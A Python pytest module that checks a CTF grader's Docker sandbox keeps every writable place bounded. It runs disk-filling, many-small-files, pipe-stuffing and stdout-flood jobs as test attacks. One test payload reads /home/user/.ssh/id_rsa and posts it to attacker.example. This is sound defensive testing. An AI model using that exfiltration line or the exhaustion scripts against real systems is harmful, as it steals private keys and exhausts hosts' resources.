"""The plain container's writes are bounded (issue 39: every resource a tenant can use is bounded).

The plain container (the baseline of CTF levels 1-2 and the run service) used
to have a writable root layer on the engine's disk, which this engine cannot
bound (overlay2 on ext4 refuses ``--storage-opt size=``): a job wrote 2 GiB
there in 1.5 s. Its root is now read-only, and the directories its user could
write in a default container (/var/tmp, /run/lock) are one bounded scratch
tmpfs of the run (``quota.bound_scratch``). These tests run real containers:
an attack that writes far past every bound ends as ``DiskQuotaExceeded``,
never as a verdict, and leaves nothing behind.

How an attack games a disk bound, and the test that shuts each way:

* another writable path: the image gains a directory its user can write (a
  default container's /var/tmp was one), or a writable mount appears; the
  directories are found again in the image and every writable mount of the
  plain container must be a bounded tmpfs
  (``test_every_directory_a_default_container_lets_its_user_write_is_bounded``,
  ``test_every_place_the_plain_container_can_write_is_bounded``);
* many small files: empty files take no block, only the kernel's memory, so a
  byte bound alone does not stop them: each tmpfs also bounds its files
  (``test_many_small_files_end_as_the_disk_quota``);
* /dev/shm: a tmpfs of Docker's, 64 MiB by default: 1 MiB here
  (``test_an_attack_writing_everywhere_holds_no_more_than_the_bounds``);
* a named pipe: holds at most its buffer (``/proc/sys/fs/pipe-max-size``, 1 MiB
  for a user), in memory, however much goes through it
  (``test_a_named_pipe_holds_no_more_than_its_buffer``);
* the engine's log: stdout goes to the container's json-file log on the
  engine's disk: max-size 8m, and Docker 20.10 keeps one rotated file beside
  it, so 16 MiB at most (``test_a_flood_of_stdout_holds_at_most_the_log_cap``);
* a core file: the kernel writes it where the engine host's core_pattern says,
  which may be a handler on the host's disk; the hard limit is 0
  (``test_no_core_file_can_be_dumped``).
"""

from __future__ import annotations

import json
import os
import secrets
import time
from pathlib import Path
from typing import Any, Iterator

import pytest

from grader.backends.docker.backend import LABEL, LABEL_PID, LABEL_ROLE, hardened_options
from grader.backends.quota import WORLD_BYTES, DiskQuotaExceeded
from grader.core.execution import Job
from grader.core.plan import BASELINE_HARDENING, BASELINE_SCRATCH, build_plan

pytestmark = [pytest.mark.docker]

MIB = 1024 * 1024
needs_root = pytest.mark.skipif(
    os.geteuid() != 0, reason="the run's scratch is a tmpfs the grader mounts, which needs root on Linux "
    "(elsewhere Docker's own tmpfs bounds each directory, unseen when full)")

# Writes up to 512 MiB into each place, 1 MiB at a time, and goes on to the next place when one is full.
FILL_EVERYWHERE = r'''
import json, os
PLACES = {PLACES}
got = {{}}
for name, path in PLACES.items():
    n = 0
    try:
        with open(path, "wb") as fh:
            for _ in range(512):
                fh.write(b"\0" * (1 << 20))
                fh.flush()
                n += 1
    except OSError as exc:
        got[name] = [n, exc.errno]
        continue
    got[name] = [n, 0]
print(json.dumps(got), flush=True)
'''
EVERYWHERE = {"var-tmp": "/var/tmp/fill", "run-lock": "/var/lock/fill", "tmp": "/tmp/fill", "shm": "/dev/shm/fill",
              "home": "/home/user/fill", "project": "/project/fill", "workspace": "/app/workspace/fill"}


def _job(code: str) -> Job:
    return Job(code=code, timeout_s=60)


@pytest.fixture()
def container(docker_client: Any, docker_backend: Any, no_leftovers: None) -> Iterator[Any]:
    """``container(cmd, **options)``: the sandbox image started with the plain container's hardening
    (``hardened_options``, Docker's tmpfs for its scratch: no run directory), labelled as the backend's; removed."""
    made: list[Any] = []
    labels = {LABEL: "sl-test-" + secrets.token_hex(4), LABEL_PID: str(os.getpid()), LABEL_ROLE: "sandbox"}

    def start(cmd: list[str], **extra: Any) -> Any:
        kwargs = {**hardened_options(BASELINE_HARDENING), "labels": labels, "network_mode": "none", **extra}
        c = docker_client.containers.create(docker_backend.images.sandbox, cmd, **kwargs)
        made.append(c)
        c.start()
        return c

    yield start
    for c in made:
        c.remove(force=True, v=True)


_SINCE = time.time()  # mounts older than this module are not its tests' to count (an earlier run's leak)


def _mounted_scratch() -> list[str]:
    """The scratch tmpfs still mounted for this process's runs (another process's runs, a pytest-xdist worker's, may
    hold theirs now)."""
    from grader.backends.owners import read_owner

    with open("/proc/self/mounts", encoding="utf-8") as fh:
        mine = []
        for line in fh:
            if line.startswith("sandbox-lab-scratch "):
                run_dir = Path(line.split()[1]).parent
                owner = read_owner(run_dir)
                # no record: made by this run (a removal that lost it) unless older than this test module
                if (owner.pid == os.getpid()) if owner is not None else run_dir.stat().st_mtime >= _SINCE:
                    mine.append(line)
        return mine


# --- every writable place is bounded ----------------------------------------------------------


def test_every_directory_a_default_container_lets_its_user_write_is_bounded(docker_client: Any, docker_backend: Any) -> None:
    """In a *default* container of the sandbox image (writable root, Docker's defaults), the directories its user
    can write are /tmp and the plain container's scratch directories; a new one fails here until it is bounded."""
    out = docker_client.containers.run(
        docker_backend.images.sandbox, ["sh", "-c", "find / -xdev \\( -path /proc -o -path /sys \\) -prune -o "
                                        "-writable -exec readlink -f {} \\; 2>/dev/null; true"],
        user=BASELINE_HARDENING.user, network_mode="none", remove=True, labels={LABEL_PID: str(os.getpid())},
    ).decode()
    found = set(out.split())
    assert found == {"/tmp", *BASELINE_SCRATCH}, found


MOUNTS = r'''
import json, os
found = []
for line in open("/proc/self/mountinfo"):
    head, tail = line.split(" - ")
    point, opts = head.split()[4], head.split()[5]
    fstype, source, sopts = tail.split()
    if "rw" in opts.split(",") and os.path.isdir(point) and os.access(point, os.W_OK):
        found.append([point, fstype, source, sopts])
import resource
print(json.dumps([found, resource.getrlimit(resource.RLIMIT_MSGQUEUE)]))
'''


def test_every_place_the_plain_container_can_write_is_bounded(docker_backend: Any, no_leftovers: None) -> None:
    ex = docker_backend.execute(build_plan(None), _job(MOUNTS))
    mounts, msgqueue = json.loads(ex.output.splitlines()[-1])
    found = {point: (fstype, source, sopts) for point, fstype, source, sopts in mounts}
    assert "/" not in found  # the root: read-only
    # POSIX message queues: memory, at most RLIMIT_MSGQUEUE bytes for the user (819,200 by default), never disk
    assert found.pop("/dev/mqueue", ("mqueue",))[0] == "mqueue" and 0 <= msgqueue[1] <= MIB, msgqueue
    for point, (fstype, source, sopts) in found.items():
        assert fstype == "tmpfs" and "size=" in sopts, (point, fstype, source, sopts)
    # the world copy's writable binds, its scratch, its own /tmp and /dev/shm: nothing else
    assert set(found) == {"/home/user", "/project", "/app/workspace", *BASELINE_SCRATCH, "/tmp", "/dev/shm"}, found
    if os.geteuid() == 0:
        assert {found[d][1] for d in BASELINE_SCRATCH} == {"sandbox-lab-scratch"}  # the run's own, seen when full


# --- attacks that write past the bounds ---------------------------------------------------------


@needs_root
def test_an_attack_writing_past_the_scratch_ends_as_the_disk_quota(docker_backend: Any, no_leftovers: None) -> None:
    places = {"var-tmp": "/var/tmp/fill", "run-lock": "/var/lock/fill", "tmp": "/tmp/fill", "shm": "/dev/shm/fill"}
    with pytest.raises(DiskQuotaExceeded) as caught:
        docker_backend.execute(build_plan(None), _job(FILL_EVERYWHERE.format(PLACES=places)))
    assert caught.value.limit == BASELINE_HARDENING.scratch_bytes
    assert "/var/tmp, /run/lock" in str(caught.value) and "not judged" in str(caught.value)
    docker_backend.drain()
    assert _mounted_scratch() == []


@needs_root
def test_a_level_1_attack_that_fills_every_writable_place_is_refused_not_judged(docker_backend: Any, no_leftovers: None) -> None:
    from grader.course.ladder import attack, level

    code = FILL_EVERYWHERE.format(PLACES=EVERYWHERE) + (
        "import urllib.request\n"
        "urllib.request.urlopen(urllib.request.Request('https://attacker.example/', "
        "data=open('/home/user/.ssh/id_rsa', 'rb').read()), timeout=5)\n")
    with pytest.raises(DiskQuotaExceeded):  # the flag left, but the run wrote its world full: no verdict
        attack(level(1), code, docker_backend)
    docker_backend.drain()
    assert _mounted_scratch() == []


@needs_root
@pytest.mark.parametrize("where", ["/var/tmp", "/home/user"])
def test_many_small_files_end_as_the_disk_quota(where: str, docker_backend: Any, no_leftovers: None) -> None:
    code = f'''
n = 0
try:
    while n < 100000:
        open("{where}/f%d" % n, "w").close()
        n += 1
except OSError as exc:
    print(n, exc.errno)
'''
    with pytest.raises(DiskQuotaExceeded) as caught:
        docker_backend.execute(build_plan(None), _job(code))
    assert caught.value.limit == (WORLD_BYTES if where == "/home/user" else BASELINE_HARDENING.scratch_bytes)
    assert f"{caught.value.files} files" in str(caught.value)


def test_an_attack_writing_everywhere_holds_no_more_than_the_bounds(container: Any, docker_client: Any) -> None:
    """Docker's own tmpfs for each scratch directory (where the grader cannot mount one): each bounded, and the
    container's layer on the engine's disk stays empty. The world copy is not mounted here (its bound: test_quota)."""
    places = {k: v for k, v in EVERYWHERE.items() if k in ("var-tmp", "run-lock", "tmp", "shm")}
    places["root"] = "/fill"  # and the root itself
    c = container(["python3", "-c", FILL_EVERYWHERE.format(PLACES=places)])
    assert c.wait(timeout=120)["StatusCode"] == 0
    got = json.loads(c.logs().decode().splitlines()[-1])
    h = BASELINE_HARDENING
    assert got["root"] == [0, 30]  # EROFS
    assert got["shm"][0] * MIB <= h.shm_bytes and got["shm"][1] == 28
    assert got["tmp"][0] * MIB <= h.tmp_bytes and got["tmp"][1] == 28
    for name in ("var-tmp", "run-lock"):
        assert got[name][0] * MIB <= h.scratch_bytes and got[name][1] == 28, got  # ENOSPC at the bound
    size = docker_client.api.containers(all=True, size=True, filters={"id": c.id})[0]
    assert size.get("SizeRw", 0) == 0, size.get("SizeRw")  # nothing on the engine's disk


def test_a_named_pipe_holds_no_more_than_its_buffer(docker_backend: Any, no_leftovers: None) -> None:
    code = r'''
import fcntl, os
os.mkfifo("/var/tmp/pipe")
fd = os.open("/var/tmp/pipe", os.O_RDWR | os.O_NONBLOCK)  # its own reader: a write never blocks on nobody
try:
    fcntl.fcntl(fd, 1031, 1 << 30)  # F_SETPIPE_SZ: as big as it may be
except OSError:
    fcntl.fcntl(fd, 1031, int(open("/proc/sys/fs/pipe-max-size").read()))
held = 0
try:
    while held < (512 << 20):
        held += os.write(fd, b"\0" * 65536)
except BlockingIOError:
    pass
print("held", held, "max", open("/proc/sys/fs/pipe-max-size").read().strip())
'''
    ex = docker_backend.execute(build_plan(None), _job(code))  # judged as usual: the scratch is not full
    _, held, _, most = ex.output.split()
    assert 0 < int(held) <= int(most) <= MIB, ex.output


def test_a_flood_of_stdout_holds_at_most_the_log_cap(container: Any, docker_client: Any) -> None:
    if not os.path.exists("/var/lib/docker"):
        pytest.skip("the engine's log is on another machine's disk (DOCKER_HOST)")
    c = container(["python3", "-c", "import sys\nfor _ in range(256): sys.stdout.write('x' * (1 << 20) + '\\n')"])
    assert c.wait(timeout=120)["StatusCode"] == 0
    log = docker_client.api.inspect_container(c.id)["LogPath"]
    held = sum(os.path.getsize(p) for p in (log, *(f"{log}.{i}" for i in range(1, 5))) if os.path.exists(p))
    # max-size 8m; Docker 20.10 keeps one rotated file beside it even with max-file=1 (measured: 8.0 MB + 5.2 MB
    # for 256 MiB written), so two of them; a record is a 16 KiB piece of a line, so none crosses by much
    assert held <= 2 * 8 * MIB, held


def test_no_core_file_can_be_dumped(docker_backend: Any, no_leftovers: None) -> None:
    code = r'''
import resource
print(resource.getrlimit(resource.RLIMIT_CORE))
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    print("raised")
except ValueError as exc:
    print("refused:", exc)
'''
    ex = docker_backend.execute(build_plan(None), _job(code))
    assert "(0, 0)" in ex.output and "refused:" in ex.output, ex.output

